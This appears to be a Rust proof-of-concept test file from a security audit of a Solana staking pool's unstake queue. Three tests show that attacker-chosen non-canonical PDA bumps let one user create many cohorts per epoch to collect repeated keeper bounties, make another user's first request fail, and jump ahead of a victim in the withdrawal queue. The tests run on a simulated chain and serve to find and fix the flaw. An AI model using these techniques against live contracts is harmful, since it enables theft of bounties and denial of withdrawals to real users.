//! PoC: the caller's bump chooses the cohort's address: many cohorts in one epoch.

use sluice_testkit::chain::SOL;
use sluice_testkit::sluice::exits;
use sluice_testkit::sluice::queue::{cohort, ticket_address};
use sluice_testkit::sluice::{Holder, PROGRAM, Pool, PoolParams, PoolSetup, crank};
use sluice_testkit::{Chain, Failure, Receipt};
use solana_address::Address;
use solana_instruction::{AccountMeta, Instruction};
use solana_signer::Signer;

use super::lab::named;

/// Every bump that gives an address of this epoch's cohort, canonical first.
fn bumps(pool: &Pool, epoch: u64) -> Vec<(Address, u8)> {
    (0..=255u8)
        .rev()
        .filter_map(|bump| {
            let seeds: [&[u8]; 4] = [b"cohort", pool.address.as_ref(), &epoch.to_le_bytes(), &[bump]];
            Address::create_program_address(&seeds, &PROGRAM).ok().map(|address| (address, bump))
        })
        .collect()
}

fn request_at(
    chain: &Chain,
    pool: &Pool,
    holder: &Holder,
    at: (Address, u8),
    shares: u64,
    nonce: u64,
) -> Instruction {
    let mut request = exits::request_unstake(pool, &pool.request(chain, holder, shares, nonce));
    let (ticket, bump) = ticket_address(&at.0, &holder.address(), nonce);
    let tail = pool.state(chain).queue_tail;
    request.accounts[3] = AccountMeta::new(at.0, false);
    request.accounts[5] = AccountMeta::new(ticket, false);
    request.accounts[4] = if tail == Address::default() || tail == at.0 {
        AccountMeta::new_readonly(PROGRAM, false)
    } else {
        AccountMeta::new(tail, false)
    };
    let at_end = request.data.len() - 2;
    request.data[at_end] = bump;
    request.data[at_end + 1] = at.1;
    request
}

fn setup(unit: u64) -> (Chain, Pool, Holder) {
    let mut chain = Chain::with_sluice();
    let params = PoolParams { bounty_unit: unit, bounty_ramp_slots: 4_320, ..PoolParams::default() };
    let pool = Pool::create(&mut chain, &PoolSetup { params, ..PoolSetup::default() });
    pool.open(&mut chain);
    let holder = pool.holder(&mut chain, 1_100 * SOL);
    pool.deposit(&mut chain, &holder, 1_000 * SOL);
    (chain, pool, holder)
}

#[test]
fn x_every_bump_is_a_cohort_of_the_same_epoch_and_each_is_paid_a_bounty() {
    let unit = 10_000_000;
    let (mut chain, pool, holder) = setup(unit);
    let funder = chain.new_wallet(1_000 * SOL);
    chain.send(&[crank::fund_bounties(&pool, &funder.pubkey(), 200 * SOL)], &[&funder]);
    let all = bumps(&pool, chain.epoch());
    let before = chain.lamports(&holder.address());
    for (nonce, at) in all.iter().enumerate() {
        let request = request_at(&chain, &pool, &holder, *at, 10_000_000, nonce as u64);
        chain.send(&[request], &[&holder.wallet]);
    }
    let made = all.iter().filter(|(address, _)| cohort(&chain, address).is_some()).count();
    println!("{made} cohorts in one epoch; locked {}", before - chain.lamports(&holder.address()));
    chain.advance_epochs(1);
    // The keepers have closed in time; the attacker comes late, when lateness pays ten times.
    pool.finalize(&mut chain);
    chain.set_slot_in_epoch(50_000);
    let keeper = chain.new_wallet(SOL);
    let pot = pool.operators(&chain).pot;
    for (address, _) in &all {
        chain.send(&[exits::finalize_cohort(&pool, &keeper.pubkey(), address)], &[&keeper]);
    }
    let paid = pot - pool.operators(&chain).pot;
    println!("bounties paid for dust cohorts of one epoch: {} SOL", paid as f64 / SOL as f64);
    assert!(made <= 1, "{made} cohorts of one epoch, {paid} lamports of bounties");
}

#[test]
fn x_another_users_cohort_makes_a_first_request_fail() {
    let (mut chain, pool, holder) = setup(0);
    let attacker = pool.holder(&mut chain, 101 * SOL);
    pool.deposit(&mut chain, &attacker, 50 * SOL);
    // The victim reads the pool, builds and signs.
    let victim = exits::request_unstake(&pool, &pool.request(&chain, &holder, SOL, 0));
    // The attacker is faster, at an address that no client derives.
    let other = bumps(&pool, chain.epoch())[1];
    let request = request_at(&chain, &pool, &attacker, other, 10_000_000, 0);
    chain.send(&[request], &[&attacker.wallet]);
    let outcome: Result<Receipt, Failure> = chain.try_send(&[victim], &[&holder.wallet]);
    assert!(outcome.is_ok(), "INV-78: {}", named(&outcome));
}

#[test]
fn x_a_cohort_made_ahead_of_the_usual_one_lets_its_maker_jump_the_queue() {
    use super::lab::{close, staked};
    use sluice_testkit::sluice::OperatorTerms;
    let params = PoolParams { liquidity_bps: 400, ..PoolParams::default() };
    let (mut chain, fleet, victim) = staked(params, &[OperatorTerms::default(); 4], 10_000 * SOL);
    let pool = fleet.pool.clone();
    let attacker = pool.holder(&mut chain, 401 * SOL);
    let give = chain.token_amount(&victim.lst) / 20;
    chain.send(
        &[sluice_testkit::token::instruction::transfer(
            &pool.token_program,
            &victim.lst,
            &attacker.lst,
            &victim.address(),
            give,
        )],
        &[&victim.wallet],
    );
    // First slot of the epoch: a place for 0.01 SOL, at an address that no client derives.
    let other = bumps(&pool, chain.epoch())[1];
    let place = request_at(&chain, &pool, &attacker, other, 10_000_000, 0);
    chain.send(&[place], &[&attacker.wallet]);
    // The victim comes next, into the usual cohort.
    pool.unstake(&mut chain, &victim, 4_000 * SOL, 0);
    // Last slot of the epoch: the attacker's real ticket, ahead of it.
    let real = request_at(&chain, &pool, &attacker, other, give - 10_000_000, 1);
    chain.send(&[real], &[&attacker.wallet]);
    close(&mut chain, &fleet, 0);
    println!("reserve {} SOL", fleet.pool_free(&chain) / SOL);
    let keeper = chain.new_wallet(SOL);
    for _ in 0..2 {
        let head = pool.state(&chain).queue_head;
        chain.send(&[exits::finalize_cohort(&pool, &keeper.pubkey(), &head)], &[&keeper]);
    }
    let late = cohort(&chain, &other.0).unwrap();
    let usual = cohort(&chain, &bumps(&pool, chain.epoch() - 1)[0].0).unwrap();
    println!(
        "attacker's {} of {}, victim's {} of {}",
        late.filled / SOL,
        late.shares / SOL,
        usual.filled / SOL,
        usual.shares / SOL
    );
    assert!(late.filled <= 10_000_000 || usual.filled == usual.shares, "last in, first out");
}
